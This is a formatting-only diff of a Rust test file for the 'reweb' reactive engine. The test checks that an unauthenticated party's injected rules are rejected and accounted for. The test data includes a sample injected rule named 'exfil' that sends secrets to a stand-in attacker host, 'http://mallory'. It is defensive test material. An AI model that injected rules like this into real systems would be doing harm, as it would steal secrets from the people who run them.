@@ -4,9 +4,7 @@
 //! end to end.
 
 use reweb::core::meta::install_rules_payload;
-use reweb::core::{
-    parse_program, AaaConfig, Credentials, Permission, ReactiveEngine,
-};
+use reweb::core::{parse_program, AaaConfig, Credentials, Permission, ReactiveEngine};
 use reweb::term::{parse_term, Dur, Timestamp};
 use reweb::websim::Simulation;
 
@@ -99,10 +97,8 @@ fn unauthenticated_rule_injection_is_rejected_and_accounted() {
     sim.add_engine("http://assistant", secured_engine());
     sim.add_sink("http://mallory");
     // Mallory has no credentials configured.
-    let rules = parse_program(
-        r#"RULE exfil ON ping DO SEND secrets TO "http://mallory" END"#,
-    )
-    .unwrap();
+    let rules =
+        parse_program(r#"RULE exfil ON ping DO SEND secrets TO "http://mallory" END"#).unwrap();
     sim.post(
         "http://mallory",
         "http://assistant",
